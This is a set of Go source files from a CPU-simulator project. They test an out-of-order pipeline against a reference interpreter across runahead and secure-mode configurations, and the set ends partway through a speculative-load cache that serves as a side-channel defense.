				min = NewReproducer(d.Seed, Shrink(ctx, d.Seed, popt, nc), d.Config)
				if gate != nil {
					gate.Release()
				}
				shrunkBySeed[d.Seed] = min
			}
			d.Minimized = min
		}
	}
	return rep, runErr
}

// Merge folds a later campaign round into r (the CLI's --duration mode runs
// successive rounds over fresh seed ranges).  Per-config summaries sum
// field-wise; divergences concatenate in round order.
func (r Report) Merge(next Report) Report {
	r.Runs += next.Runs
	r.Spec.Seeds += next.Spec.Seeds
	r.Clean = r.Clean && next.Clean
	r.Divergences = append(r.Divergences, next.Divergences...)
	byName := make(map[string]int, len(r.PerConfig))
	for i, s := range r.PerConfig {
		byName[s.Config] = i
	}
	for _, s := range next.PerConfig {
		i, ok := byName[s.Config]
		if !ok {
			r.PerConfig = append(r.PerConfig, s)
			continue
		}
		r.PerConfig[i].Runs += s.Runs
		r.PerConfig[i].Divergences += s.Divergences
		r.PerConfig[i].Episodes += s.Episodes
		r.PerConfig[i].Committed += s.Committed
		r.PerConfig[i].Cycles += s.Cycles
	}
	return r
}
