package difftest

import (
	"context"
	"reflect"
	"testing"

	"specrun/internal/proggen"
	"specrun/internal/runahead"
	"specrun/internal/sweep"
)

func TestMatrixShapes(t *testing.T) {
	for _, tc := range []struct {
		full bool
		want int
	}{{false, 8}, {true, 19}} {
		m := Matrix(tc.full)
		if len(m) != tc.want {
			t.Fatalf("Matrix(%v): %d configs, want %d", tc.full, len(m), tc.want)
		}
		seen := map[string]bool{}
		for _, nc := range m {
			if seen[nc.Name] {
				t.Fatalf("Matrix(%v): duplicate config name %q", tc.full, nc.Name)
			}
			seen[nc.Name] = true
		}
	}
	// The full matrix must cover every runahead kind with and without the
	// §6 defense at both window sizes.
	names := map[string]bool{}
	for _, nc := range Matrix(true) {
		names[nc.Name] = true
	}
	for _, want := range []string{
		"none-rob48", "none-rob256-secure", "original-rob48-secure",
		"precise-rob256", "vector-rob48", "skipinv-rob256", "tiny",
	} {
		if !names[want] {
			t.Fatalf("full matrix missing %q", want)
		}
	}
}

// TestCleanSeeds is the headline property: random programs diverge nowhere
// across the quick matrix.
func TestCleanSeeds(t *testing.T) {
	seeds := 6
	if testing.Short() {
		seeds = 2
	}
	cfgs := Matrix(false)
	opt := proggen.DefaultOptions()
	for seed := int64(1); seed <= int64(seeds); seed++ {
		res := CheckSeed(seed, opt, cfgs)
		for _, d := range res.Divergences {
			t.Errorf("seed %d / %s: %s: %s", d.Seed, d.Config, d.Kind, d.Detail)
		}
		if len(res.PerConfig) != len(cfgs) {
			t.Fatalf("seed %d: %d config runs, want %d", seed, len(res.PerConfig), len(cfgs))
		}
	}
}

// TestRunaheadOffStreamEqualsBaseline pins the cross-configuration
// invariant commit-for-commit (not just transitively through the reference
// stream): a machine with runahead disabled and the SPECRUN-style machine
// commit the identical instruction stream.
func TestRunaheadOffStreamEqualsBaseline(t *testing.T) {
	off := point(runahead.KindNone, false, 256)
	on := point(runahead.KindOriginal, false, 256)
	rc := runnerCaches.Get()
	defer runnerCaches.Put(rc)
	for seed := int64(1); seed <= 4; seed++ {
		prog := proggen.Generate(seed, proggen.DefaultOptions())
		aShared, _, err := rc.pipeStream(off, prog)
		if err != nil {
			t.Fatalf("seed %d %s: %v", seed, off.Name, err)
		}
		// pipeStream reuses the cache's record buffer; clone before the next
		// call overwrites it.
		a := append([]record(nil), aShared...)
		b, c, err := rc.pipeStream(on, prog)
		if err != nil {
			t.Fatalf("seed %d %s: %v", seed, on.Name, err)
		}
		if d := diffStreams(a, b); d != "" {
			t.Fatalf("seed %d: runahead changed the commit stream: %s", seed, d)
		}
		if seed == 1 && c.Stats().Committed == 0 {
			t.Fatal("baseline committed nothing")
		}
	}
}

func TestDiffStreamsReportsFirstMismatch(t *testing.T) {
	a := []record{{pc: 0x1000, op: "add", dest: "r1", v: 1}, {pc: 0x1004, op: "sub", dest: "r2", v: 2}}
	b := []record{{pc: 0x1000, op: "add", dest: "r1", v: 1}, {pc: 0x1004, op: "sub", dest: "r2", v: 3}}
	if d := diffStreams(a, a); d != "" {
		t.Fatalf("identical streams diverged: %s", d)
	}
	if d := diffStreams(a, b); d == "" {
		t.Fatal("value mismatch not detected")
	}
	if d := diffStreams(a, a[:1]); d == "" {
		t.Fatal("length mismatch not detected")
	}
}

// TestCampaignDeterministicAcrossWorkers is the determinism invariant: the
// campaign report must be byte-identical at any worker count.
func TestCampaignDeterministicAcrossWorkers(t *testing.T) {
	spec := CampaignSpec{Seeds: 8, Matrix: "quick"}
	r1, err := Run(context.Background(), spec, sweep.Options{Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	rN, err := Run(context.Background(), spec, sweep.Options{Workers: 4})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(r1, rN) {
		t.Fatalf("campaign report depends on worker count:\n1 worker: %+v\n4 workers: %+v", r1, rN)
	}
	if r1.Runs != 8*len(Matrix(false)) {
		t.Fatalf("runs = %d, want %d", r1.Runs, 8*len(Matrix(false)))
	}
	for _, s := range r1.PerConfig {
		if s.Runs != 8 {
			t.Fatalf("config %s aggregated %d runs, want 8", s.Config, s.Runs)
		}
	}
	if !r1.Clean {
		t.Fatalf("campaign found divergences: %+v", r1.Divergences)
	}
}

func TestCampaignCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	rep, err := Run(ctx, CampaignSpec{Seeds: 50}, sweep.Options{Workers: 2})
	if err == nil {
		t.Fatal("cancelled campaign reported no error")
	}
	if rep.Runs == 50*rep.Configs {
		t.Fatal("cancelled campaign claims to have run everything")
	}
}

func TestCampaignBadSpec(t *testing.T) {
	for _, spec := range []CampaignSpec{
		{Matrix: "bogus"},
		{Seeds: -1},
		{Len: -5},
	} {
		if _, err := Run(context.Background(), spec, sweep.Options{}); err == nil {
			t.Fatalf("bad spec accepted: %+v", spec)
		}
	}
}

func TestReportMerge(t *testing.T) {
	a := Report{
		Spec: CampaignSpec{Seeds: 10}, Configs: 2, Runs: 20, Clean: true,
		PerConfig: []ConfigSummary{{Config: "x", Runs: 10, Episodes: 5}, {Config: "y", Runs: 10}},
	}
	b := Report{
		Spec: CampaignSpec{Seeds: 10, SeedBase: 11}, Configs: 2, Runs: 20, Clean: false,
		Divergences: []Divergence{{Seed: 15, Config: "x", Kind: KindFinalState}},
		PerConfig:   []ConfigSummary{{Config: "x", Runs: 10, Divergences: 1}, {Config: "z", Runs: 10}},
	}
	m := a.Merge(b)
	if m.Runs != 40 || m.Spec.Seeds != 20 || m.Clean {
		t.Fatalf("merged header wrong: %+v", m)
	}
	if len(m.Divergences) != 1 || m.Divergences[0].Seed != 15 {
		t.Fatalf("divergences lost: %+v", m.Divergences)
	}
	if len(m.PerConfig) != 3 {
		t.Fatalf("per-config rows = %d, want 3", len(m.PerConfig))
	}
	if x := m.PerConfig[0]; x.Config != "x" || x.Runs != 20 || x.Divergences != 1 || x.Episodes != 5 {
		t.Fatalf("config x merged wrong: %+v", x)
	}
}

// TestShrinkWithReduces drives the reduction loop with a synthetic failure
// predicate: the "bug" needs Loops enabled and at least 17 body
// instructions; everything else must be stripped.
func TestShrinkWithReduces(t *testing.T) {
	fails := func(o proggen.Options) bool { return o.Loops && o.Len >= 17 }
	got := shrinkWith(context.Background(), proggen.DefaultOptions(), fails)
	if !fails(got) {
		t.Fatalf("shrunk options no longer fail: %+v", got)
	}
	if got.Len != 17 {
		t.Fatalf("len = %d, want 17", got.Len)
	}
	if got.Gadgets || got.Vector || got.FloatOps || got.Calls || got.Flushes {
		t.Fatalf("irrelevant features kept: %+v", got)
	}
	if !got.Loops {
		t.Fatalf("load-bearing feature dropped: %+v", got)
	}
	if got.BufBytes != 512 {
		t.Fatalf("buffer not reduced: %d", got.BufBytes)
	}
}
