package difftest

import (
	"testing"

	"specrun/internal/proggen"
)

// FuzzDiff is the native `go test -fuzz` entry: the fuzzer drives the seed
// and the generator feature mask, and every mutation must stay
// architecturally identical to the reference interpreter across the quick
// configuration matrix.  CI runs it with a cached corpus
// (-fuzz=FuzzDiff -fuzztime=20s); any input that trips the oracle is saved
// under testdata/fuzz and replays as a plain test forever after.
func FuzzDiff(f *testing.F) {
	for seed := int64(1); seed <= 8; seed++ {
		f.Add(seed, uint8(0xff))
	}
	f.Add(int64(9999), uint8(0x20)) // gadgets only
	f.Add(int64(424242), uint8(0))  // straight-line ALU/mem
	cfgs := Matrix(false)
	f.Fuzz(func(t *testing.T, seed int64, feat uint8) {
		opt := proggen.DefaultOptions()
		opt.Len = 40 // keep individual executions fast; campaigns cover long bodies
		opt.Loops = feat&1 != 0
		opt.Calls = feat&2 != 0
		opt.Flushes = feat&4 != 0
		opt.Vector = feat&8 != 0
		opt.FloatOps = feat&16 != 0
		opt.Gadgets = feat&32 != 0
		res := CheckSeed(seed, opt, cfgs)
		for _, d := range res.Divergences {
			t.Errorf("seed %d / %s: %s: %s", d.Seed, d.Config, d.Kind, d.Detail)
		}
	})
}
