// Package difftest is the campaign-scale differential-testing engine: it
// runs proggen programs in lockstep on the in-order reference interpreter
// (specrun/internal/iss) and the out-of-order pipeline (specrun/internal/cpu)
// across the whole runahead × secure × window configuration matrix, and
// checks the golden-model contract the SPECRUN argument rests on —
// speculation and runahead leave microarchitectural residue but must be
// *architecturally* invisible.
//
// The oracle is layered:
//
//  1. Commit stream: the pipeline's committed instruction stream (via
//     cpu.SetCommitHook) must equal the interpreter's executed stream
//     instruction for instruction — PC, opcode, destination and committed
//     value.  Because every configuration is compared against the same
//     reference stream, this also pins the cross-configuration invariant
//     (a runahead-off machine and a SPECRUN-style machine commit the same
//     stream commit-for-commit).
//  2. Final architectural state: integer, FP and vector register files and
//     the program's scratch buffer and stack memory.
//  3. Bookkeeping conservation: cache fills never exceed misses (each fill
//     is caused by a miss; SL-cache promotions exempt the L1D under the §6
//     defense), evictions never exceed fills, and write-backs never exceed
//     dirty-capable evictions.
//
// Campaigns shard seeds across the parallel sweep engine; failures are
// minimized by the shrinker into a reproducer (seed + generator options +
// config) small enough to check in as a regression test.
package difftest

import (
	"fmt"
	"strings"
	"sync/atomic"

	"specrun/internal/asm"
	"specrun/internal/cpu"
	"specrun/internal/isa"
	"specrun/internal/iss"
	"specrun/internal/mem"
	"specrun/internal/proggen"
	"specrun/internal/sweep"
)

// Execution budgets, matching the hand-written differential tests.
const (
	issBudget = 5_000_000  // reference-interpreter step budget
	cpuBudget = 20_000_000 // OoO-core cycle budget
)

// Divergence kinds.
const (
	KindRunError     = "run_error"     // a simulator failed to complete the program
	KindCommitStream = "commit_stream" // committed stream != reference execution
	KindFinalState   = "final_state"   // register files differ after HALT
	KindFinalMem     = "final_mem"     // scratch buffer / stack memory differs
	KindCacheStats   = "cache_stats"   // bookkeeping conservation violated
)

// Divergence is one oracle violation found for (seed, config).
type Divergence struct {
	Seed   int64  `json:"seed"`
	Config string `json:"config"`
	Kind   string `json:"kind"`
	Detail string `json:"detail"`
	// Minimized, when the shrinker ran, is a reduced reproducer for this
	// seed; Reproducer.Config names the configuration the reduction was
	// validated against (the seed's first divergent one — shrinking runs
	// once per seed, not once per configuration).
	Minimized *Reproducer `json:"minimized,omitempty"`
}

// Reproducer pins a minimized failing input.  Sprog, when present, is the
// canonical binary encoding (specrun/internal/prog) of the reduced program —
// a shippable .sprog artifact that re-runs without the generator or seed
// (JSON carries it base64-encoded).
type Reproducer struct {
	Seed    int64           `json:"seed"`
	Options proggen.Options `json:"options"`
	Config  string          `json:"config"`
	Sprog   []byte          `json:"sprog,omitempty"`
}

// NewReproducer builds a reproducer and attaches its .sprog artifact.  The
// encoding is best effort: a failure leaves Sprog nil rather than losing
// the seed/options reproducer the campaign already paid for.
func NewReproducer(seed int64, opts proggen.Options, config string) *Reproducer {
	r := &Reproducer{Seed: seed, Options: opts, Config: config}
	if bin, _, err := proggen.Artifact(seed, opts); err == nil {
		r.Sprog = bin
	}
	return r
}

// ConfigRunStats summarises one pipeline run for campaign aggregation.
type ConfigRunStats struct {
	Name      string
	Episodes  uint64
	Committed uint64
	Cycles    uint64
}

// SeedResult is the outcome of checking one seed against a config set.
type SeedResult struct {
	Seed        int64
	Divergences []Divergence
	PerConfig   []ConfigRunStats // aligned with the config set; absent entries errored
}

// record is one executed/committed instruction in canonical form.
type record struct {
	pc    uint64
	op    string
	dest  string
	v, v2 uint64
}

func (r record) String() string {
	if r.dest == "" {
		return fmt.Sprintf("{pc=%#x %s}", r.pc, r.op)
	}
	return fmt.Sprintf("{pc=%#x %s %s=%#x:%#x}", r.pc, r.op, r.dest, r.v, r.v2)
}

// destString renders a destination register for record comparison: the empty
// string for NoReg (isa.Reg.String would print "-"), so dest-less
// instructions format without a bogus register clause.
func destString(d isa.Reg) string {
	if d == isa.NoReg {
		return ""
	}
	return d.String()
}

// runnerCache is the per-worker simulator state a differential campaign
// reuses across seeds: one reference interpreter, one pipeline machine per
// configuration, and the record buffers.  Rebuilding these per (seed,
// config) dominated campaign allocation — a full-matrix run is
// seeds × configs machines, each carrying megabytes of cache arrays.
// CheckSeed draws a cache from a pool bounded by the worker count, so a
// campaign builds machines once per worker per configuration.
type runnerCache struct {
	ref  *iss.Interp
	cpus map[string]*cacheEntry
	tick uint64 // lastUse clock for the per-cache LRU bound

	refRecs  []record
	pipeRecs []record

	// Lane scratch for CheckSeedLanes: per-lane machines, results and commit
	// records for one lockstep group (reused across groups and seeds).
	laneMs   []*cpu.CPU
	laneErrs []error
	laneRecs [][]record
}

// cacheEntry guards reuse by value-comparing the full configuration: two
// NamedConfigs may share a name (callers can hand-build them), and a name
// collision must rebuild rather than silently simulate the wrong machine.
type cacheEntry struct {
	cfg     cpu.Config
	c       *cpu.CPU
	lastUse uint64
}

// RunnerCacheCap bounds the machines one worker cache holds: the full
// matrix needs 19, and a long-lived server fuzzing hand-built config sets
// must not accumulate one ~3 MB machine per configuration forever.  The
// least-recently-used machine is dropped on overflow; RunnerEvictions
// counts drops for GET /v1/stats.
const RunnerCacheCap = 32

var runnerEvictions atomic.Uint64

// RunnerEvictions reports how many difftest worker-cache machines have been
// evicted by the LRU bound since process start.
func RunnerEvictions() uint64 { return runnerEvictions.Load() }

var runnerCaches = sweep.NewLocal(func() *runnerCache {
	return &runnerCache{cpus: make(map[string]*cacheEntry, RunnerCacheCap)}
})

// refStream executes prog on the reference interpreter, capturing one record
// per instruction (the destination is read back after the step, so hardwired
// zero-register semantics match the pipeline's committed state).
func (rc *runnerCache) refStream(prog *asm.Program) ([]record, *iss.Interp, error) {
	if rc.ref == nil {
		rc.ref = iss.New(prog)
	} else {
		rc.ref.Reset(prog)
	}
	ref := rc.ref
	if rc.refRecs == nil {
		rc.refRecs = make([]record, 0, 4096)
	}
	recs := rc.refRecs[:0]
	defer func() { rc.refRecs = recs[:0] }()
	for ref.Steps < issBudget {
		pc := ref.PC
		in, ok := prog.InstAt(pc)
		if !ok {
			return recs, ref, fmt.Errorf("difftest: iss pc %#x outside program text", pc)
		}
		cont, err := ref.Step()
		if err != nil {
			return recs, ref, err
		}
		d := in.Dest()
		v, v2 := ref.RegValue(d)
		recs = append(recs, record{pc: pc, op: in.Op.Name(), dest: destString(d), v: v, v2: v2})
		if !cont {
			return recs, ref, nil
		}
	}
	return recs, ref, iss.ErrMaxSteps
}

// pipeStream runs prog on the pipeline under cfg, capturing the committed
// instruction stream.  The machine for nc is reused across seeds via Reset;
// a reused machine is byte-identical to a fresh one (pinned by the cpu
// package's reset tests and this package's worker-invariance tests).
//
// The returned slice aliases the cache's reusable buffer and is valid only
// until the next pipeStream call on the same cache (same contract as
// refStream's result): CheckSeed consumes each stream before running the
// next configuration; any caller that needs two streams at once must clone
// the first.
func (rc *runnerCache) pipeStream(nc NamedConfig, prog *asm.Program) ([]record, *cpu.CPU, error) {
	c := rc.entryFor(nc, prog).c
	if rc.pipeRecs == nil {
		rc.pipeRecs = make([]record, 0, 4096)
	}
	recs := rc.pipeRecs[:0]
	c.SetCommitHook(func(r cpu.CommitRecord) {
		recs = append(recs, record{pc: r.PC, op: r.Op.Name(), dest: destString(r.Dest), v: r.Val, v2: r.Val2})
	})
	err := c.Run(cpuBudget)
	c.SetCommitHook(nil)
	rc.pipeRecs = recs[:0]
	return recs, c, err
}

// entryFor returns nc's cached machine loaded with prog (Reset on reuse,
// built on first use, LRU-evicting on overflow) and marks it most recently
// used.  Entries touched back to back — a lockstep lane group — carry the
// highest lastUse values, so a group of at most RunnerCacheCap machines never
// evicts its own members.
func (rc *runnerCache) entryFor(nc NamedConfig, prog *asm.Program) *cacheEntry {
	e := rc.cpus[nc.Name]
	if e == nil || e.cfg != nc.Config {
		if e == nil && len(rc.cpus) >= RunnerCacheCap {
			var victim string
			oldest := ^uint64(0)
			for name, ce := range rc.cpus {
				if ce.lastUse < oldest {
					victim, oldest = name, ce.lastUse
				}
			}
			delete(rc.cpus, victim)
			runnerEvictions.Add(1)
		}
		e = &cacheEntry{cfg: nc.Config, c: cpu.New(nc.Config, prog)}
		rc.cpus[nc.Name] = e
	} else {
		e.c.Reset(prog)
	}
	rc.tick++
	e.lastUse = rc.tick
	return e
}

// CheckSeed generates the program for seed and compares the pipeline against
// the reference under every configuration.  It never fails the process: all
// violations come back as Divergences.  Simulators are drawn from a pool of
// per-worker caches and reused across calls (one machine per configuration
// per concurrent caller, not one per seed).
func CheckSeed(seed int64, opt proggen.Options, cfgs []NamedConfig) SeedResult {
	rc := runnerCaches.Get()
	defer runnerCaches.Put(rc)
	prog := proggen.Generate(seed, opt)
	res := SeedResult{Seed: seed}
	issRecs, ref, err := rc.refStream(prog)
	if err != nil {
		res.Divergences = append(res.Divergences, Divergence{
			Seed: seed, Config: "iss", Kind: KindRunError, Detail: err.Error(),
		})
		return res
	}
	for _, nc := range cfgs {
		recs, c, err := rc.pipeStream(nc, prog)
		diverge := func(kind, detail string) {
			res.Divergences = append(res.Divergences, Divergence{
				Seed: seed, Config: nc.Name, Kind: kind, Detail: detail,
			})
		}
		if err != nil {
			diverge(KindRunError, err.Error())
			continue
		}
		st := c.Stats()
		res.PerConfig = append(res.PerConfig, ConfigRunStats{
			Name: nc.Name, Episodes: st.RunaheadEpisodes, Committed: st.Committed, Cycles: st.Cycles,
		})
		if d := diffStreams(issRecs, recs); d != "" {
			diverge(KindCommitStream, d)
		}
		if d := diffArch(ref, c); d != "" {
			diverge(KindFinalState, d)
		}
		if d := diffMemory(prog, opt, ref, c); d != "" {
			diverge(KindFinalMem, d)
		}
		if d := cacheInvariants(nc.Config, c); d != "" {
			diverge(KindCacheStats, d)
		}
	}
	return res
}

// diffStreams compares the committed stream against the reference execution
// and describes the first mismatch ("" if identical).
func diffStreams(ref, got []record) string {
	n := min(len(ref), len(got))
	for i := 0; i < n; i++ {
		if ref[i] != got[i] {
			return fmt.Sprintf("commit %d: pipeline %s, reference %s", i, got[i], ref[i])
		}
	}
	if len(ref) != len(got) {
		return fmt.Sprintf("pipeline committed %d instructions, reference executed %d (first %d identical)",
			len(got), len(ref), n)
	}
	return ""
}

// diffArch compares the final register files ("" if identical; reports at
// most four registers).
func diffArch(ref *iss.Interp, c *cpu.CPU) string {
	var diffs []string
	add := func(s string) {
		if len(diffs) < 4 {
			diffs = append(diffs, s)
		}
	}
	for i := range ref.IntReg {
		if got := c.IntReg(i); got != ref.IntReg[i] {
			add(fmt.Sprintf("r%d=%#x want %#x", i, got, ref.IntReg[i]))
		}
	}
	for i := range ref.FPReg {
		if got := c.FPReg(i); got != ref.FPReg[i] {
			add(fmt.Sprintf("f%d=%#x want %#x", i, got, ref.FPReg[i]))
		}
	}
	for i := range ref.VecReg {
		if got := c.VecReg(i); got != ref.VecReg[i] {
			add(fmt.Sprintf("v%d=%#x:%#x want %#x:%#x", i, got[0], got[1], ref.VecReg[i][0], ref.VecReg[i][1]))
		}
	}
	return strings.Join(diffs, "; ")
}

// diffMemory compares the program's scratch buffer and stack word-by-word.
func diffMemory(prog *asm.Program, opt proggen.Options, ref *iss.Interp, c *cpu.CPU) string {
	opt = opt.WithDefaults() // the geometry Generate actually used
	for _, region := range []struct {
		sym  string
		size int
	}{{"buf", opt.BufBytes}, {"stack", opt.StackBytes}} {
		base, ok := prog.Sym(region.sym)
		if !ok {
			continue
		}
		for off := 0; off < region.size; off += 8 {
			a := base + uint64(off)
			if got, want := c.Mem().ReadU64(a), ref.Mem.ReadU64(a); got != want {
				return fmt.Sprintf("%s[%#x] (addr %#x) = %#x, want %#x", region.sym, off, a, got, want)
			}
		}
	}
	return ""
}

// cacheInvariants checks bookkeeping conservation on the memory hierarchy:
// every fill is caused by a miss (the §6 SL cache promotes lines into the
// L1D without a demand miss, so that one pairing is exempt under secure
// mode), every eviction accompanies a fill, and every write-back is a dirty
// eviction.
func cacheInvariants(cfg cpu.Config, c *cpu.CPU) string {
	h := c.Hier()
	l1i, l1d, l2, l3 := h.Caches()
	var evictions uint64
	var diffs []string
	check := func(name string, st mem.CacheStats, fillsBounded bool) {
		if fillsBounded && st.Fills > st.Misses {
			diffs = append(diffs, fmt.Sprintf("%s: fills %d > misses %d", name, st.Fills, st.Misses))
		}
		if st.Evictions > st.Fills {
			diffs = append(diffs, fmt.Sprintf("%s: evictions %d > fills %d", name, st.Evictions, st.Fills))
		}
		evictions += st.Evictions
	}
	check("L1I", l1i.Stats, true)
	check("L1D", l1d.Stats, !cfg.Secure.Enabled)
	check("L2", l2.Stats, true)
	check("L3", l3.Stats, true)
	if h.Stats.Writebacks > evictions {
		diffs = append(diffs, fmt.Sprintf("hierarchy: writebacks %d > evictions %d", h.Stats.Writebacks, evictions))
	}
	return strings.Join(diffs, "; ")
}
