// Cross-run state-leak hunting: the differential oracle that proves machine
// reuse is airtight.  Every sweep, fuzz and server worker runs thousands of
// unrelated programs on one reused machine (CPU.Reset between jobs); a
// single bit of state surviving a Reset — a stale waiter entry, a store
// still linked in the SQ line index, a cache line visible across an epoch
// bump, predictor state, a leaked watermark — would silently corrupt result
// streams in ways the per-seed ISS oracle can miss (both runs of a seed
// would be wrong the same way only if the leak were deterministic per seed,
// which interleaving defeats).
//
// The interleave check runs A, B, A′ on ONE machine per configuration,
// where A′ re-runs A's program after the unrelated program B has smeared
// the machine's internal state.  A and A′ must be identical in commit
// stream, full statistics (cycle counts included — timing state like cache
// and LRU contents is architectural here) and final register/memory state.
package difftest

import (
	"fmt"
	"reflect"

	"specrun/internal/cpu"
	"specrun/internal/isa"
	"specrun/internal/proggen"
)

// KindStateLeak labels an A-vs-A′ divergence found by the interleave mode.
const KindStateLeak = "state_leak"

// interleaveStride derives B's seed from A's: far enough that campaign seed
// ranges never make A and B identical programs.
const interleaveStride = 1_000_003

// machineSnapshot captures everything CheckInterleave compares between the
// two A runs.
type machineSnapshot struct {
	recs  []record
	stats cpu.Stats
	ints  [isa.NumIntRegs]uint64
	fps   [isa.NumFPRegs]uint64
	vecs  [isa.NumVecRegs][2]uint64
	mem   []uint64
}

func snapshot(c *cpu.CPU, recs []record, prog progRegions) machineSnapshot {
	s := machineSnapshot{recs: append([]record(nil), recs...), stats: *c.Stats()}
	s.stats.EpisodeReaches = append([]uint64(nil), s.stats.EpisodeReaches...)
	for i := range s.ints {
		s.ints[i] = c.IntReg(i)
	}
	for i := range s.fps {
		s.fps[i] = c.FPReg(i)
	}
	for i := range s.vecs {
		s.vecs[i] = c.VecReg(i)
	}
	for _, r := range prog.regions {
		for off := 0; off < r.size; off += 8 {
			s.mem = append(s.mem, c.Mem().ReadU64(r.base+uint64(off)))
		}
	}
	return s
}

type progRegion struct {
	base uint64
	size int
}

type progRegions struct{ regions []progRegion }

// diffSnapshots describes the first A-vs-A′ difference ("" if identical).
func diffSnapshots(a, a2 machineSnapshot) string {
	if d := diffStreams(a.recs, a2.recs); d != "" {
		return "commit stream: " + d
	}
	if !reflect.DeepEqual(a.stats, a2.stats) {
		return fmt.Sprintf("stats diverge: first %+v, rerun %+v", a.stats, a2.stats)
	}
	if a.ints != a2.ints || a.fps != a2.fps || a.vecs != a2.vecs {
		return "final register files diverge"
	}
	if !reflect.DeepEqual(a.mem, a2.mem) {
		return "final buffer/stack memory diverges"
	}
	return ""
}

// CheckInterleave runs program A, an unrelated program B, then A again — all
// on one reused machine per configuration — and reports any difference
// between the two A runs as a state leak.  (A's correctness against the ISS
// reference is CheckSeed's job; this oracle isolates reuse.)
func CheckInterleave(seed int64, opt proggen.Options, cfgs []NamedConfig) SeedResult {
	rc := runnerCaches.Get()
	defer runnerCaches.Put(rc)
	opt = opt.WithDefaults() // resolve exactly as Generate will
	progA := proggen.Generate(seed, opt)
	progB := proggen.Generate(seed+interleaveStride, opt)

	var pr progRegions
	for _, region := range []struct {
		sym  string
		size int
	}{{"buf", opt.BufBytes}, {"stack", opt.StackBytes}} {
		if base, ok := progA.Sym(region.sym); ok {
			pr.regions = append(pr.regions, progRegion{base: base, size: region.size})
		}
	}

	res := SeedResult{Seed: seed}
	for _, nc := range cfgs {
		diverge := func(kind, detail string) {
			res.Divergences = append(res.Divergences, Divergence{
				Seed: seed, Config: nc.Name, Kind: kind, Detail: detail,
			})
		}
		recs, c, err := rc.pipeStream(nc, progA)
		if err != nil {
			diverge(KindRunError, err.Error())
			continue
		}
		first := snapshot(c, recs, pr)
		if _, _, err := rc.pipeStream(nc, progB); err != nil {
			diverge(KindRunError, fmt.Sprintf("interfering program (seed %d): %v", seed+interleaveStride, err))
			continue
		}
		recs, c, err = rc.pipeStream(nc, progA)
		if err != nil {
			diverge(KindRunError, fmt.Sprintf("rerun after interleave: %v", err))
			continue
		}
		rerun := snapshot(c, recs, pr)
		st := c.Stats()
		res.PerConfig = append(res.PerConfig, ConfigRunStats{
			Name: nc.Name, Episodes: st.RunaheadEpisodes, Committed: st.Committed, Cycles: st.Cycles,
		})
		if d := diffSnapshots(first, rerun); d != "" {
			diverge(KindStateLeak, d)
		}
	}
	return res
}
