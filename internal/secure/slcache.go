package secure

// SLCache is the Speculative Load cache of §6: an "L0" buffer that receives
// the lines fetched from memory by loads issued during runahead execution,
// instead of installing them into the regular hierarchy.  After the
// processor exits runahead mode, Algorithm 1 governs how entries drain:
//
//   - untainted entries (Btag = 0, or Btag = B{n,0} with Bn resolved
//     correctly) promote into L1 when next accessed;
//   - USL entries wait for their branch Bn to resolve; a correct prediction
//     promotes them, a misprediction deletes the entries related to Bn and
//     to Bn's inner branches (identified through IS);
//   - the counter C tracks residency so the processor stops probing the SL
//     cache once it has drained.
type SLCache struct {
	cap     int
	entries map[uint64]*SLEntry
	order   []uint64
	pool    []*SLEntry // freed entries, reused by Install

	victims []uint64 // scratch for DeleteRelated/PurgeUntagged

	Stats SLStats
}

// SLEntry is one buffered line.
type SLEntry struct {
	Line     uint64
	FillDone uint64
	Btag     Btag
	IS       TaintSet
	Tagged   bool // tags assigned at pseudo-retire; untagged entries are
	// conservative residue (squashed in-runahead paths) and are
	// purged at exit
}

// SLStats counts SL-cache events.
type SLStats struct {
	Installs uint64
	Hits     uint64
	Promoted uint64
	Deleted  uint64
	Purged   uint64
}

// NewSLCache returns an SL cache bounded to capEntries lines.
func NewSLCache(capEntries int) *SLCache {
	if capEntries <= 0 {
		capEntries = 64
	}
	return &SLCache{cap: capEntries, entries: make(map[uint64]*SLEntry, capEntries)}
}

// C returns the residency counter (the paper's C): the number of entries
// currently buffered.
func (c *SLCache) C() int { return len(c.entries) }

// Install buffers a line fetched during runahead.  Re-installing an existing
// line refreshes its fill time.
func (c *SLCache) Install(line, fillDone uint64) *SLEntry {
	if e, ok := c.entries[line]; ok {
		if fillDone > e.FillDone {
			e.FillDone = fillDone
		}
		return e
	}
	if len(c.entries) >= c.cap {
		// Shift-truncate rather than reslice: order must keep its backing
		// array, or a long run of evictions grows it without bound.
		victim := c.order[0]
		copy(c.order, c.order[1:])
		c.order = c.order[:len(c.order)-1]
		if e := c.entries[victim]; e != nil {
			c.pool = append(c.pool, e)
		}
		delete(c.entries, victim)
	}
	e := c.newEntry(line, fillDone)
	c.entries[line] = e
	c.order = append(c.order, line)
	c.Stats.Installs++
	return e
}

// newEntry reuses a pooled entry if one is free.
func (c *SLCache) newEntry(line, fillDone uint64) *SLEntry {
	if n := len(c.pool); n > 0 {
		e := c.pool[n-1]
		c.pool = c.pool[:n-1]
		*e = SLEntry{Line: line, FillDone: fillDone}
		return e
	}
	return &SLEntry{Line: line, FillDone: fillDone}
}

// Tag attaches the taint-tracking verdict to a buffered line at
// pseudo-retirement.  Repeated tagging (two loads to one line) merges
// conservatively: IS accumulates and the earliest non-zero Btag wins.
func (c *SLCache) Tag(line uint64, tag Btag, is TaintSet) {
	e, ok := c.entries[line]
	if !ok {
		return
	}
	if !e.Tagged || (e.Btag.N == 0 && tag.N != 0) {
		e.Btag = tag
	}
	e.IS = e.IS.Union(is)
	e.Tagged = true
}

// Lookup finds a buffered line without removing it.
func (c *SLCache) Lookup(line uint64) (*SLEntry, bool) {
	e, ok := c.entries[line]
	if ok {
		c.Stats.Hits++
	}
	return e, ok
}

// Remove deletes a single line (after promotion into L1, or on CLFLUSH).
func (c *SLCache) Remove(line uint64) {
	e, ok := c.entries[line]
	if !ok {
		return
	}
	delete(c.entries, line)
	c.pool = append(c.pool, e)
	for i, l := range c.order {
		if l == line {
			c.order = append(c.order[:i], c.order[i+1:]...)
			break
		}
	}
}

// Promote removes the line and counts it as promoted into L1.
func (c *SLCache) Promote(line uint64) {
	c.Remove(line)
	c.Stats.Promoted++
}

// DeleteRelated implements the misprediction arm of Algorithm 1: it deletes
// every entry related to branch n or to any branch nested inside n.  The
// inner predicate is supplied by the episode's Tracker.  It returns the
// number of entries deleted (the paper's d, which decrements C).
func (c *SLCache) DeleteRelated(n int, inner func(m, n int) bool) int {
	victims := c.victims[:0]
	for line, e := range c.entries {
